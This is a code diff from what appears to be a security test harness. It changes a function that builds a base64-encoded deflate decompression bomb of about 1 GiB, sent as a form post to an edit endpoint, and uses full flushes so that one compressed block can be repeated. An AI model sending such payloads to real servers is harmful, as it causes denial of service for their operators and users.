@@ -178,9 +178,13 @@ def deflated(head: bytes, part: bytes, size: int = 1 << 30) -> Attack:
     def made() -> bytes:
         packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
         block = part * (1 << 20)
-        packed = [packer.compress(head)]
-        packed += [packer.compress(block) for _ in range(size // len(block))]
-        return b"m=edit&p=" + b64encode(b"".join([*packed, packer.flush()]))
+
+        def packed(plain: bytes) -> bytes:
+            # After a full flush nothing refers to what was before: one block may be repeated.
+            return packer.compress(plain) + packer.flush(zlib.Z_FULL_FLUSH)
+
+        body = packed(head) + packed(block) * (size // len(block)) + packer.flush()
+        return b"m=edit&p=" + b64encode(body)
 
     return made
 
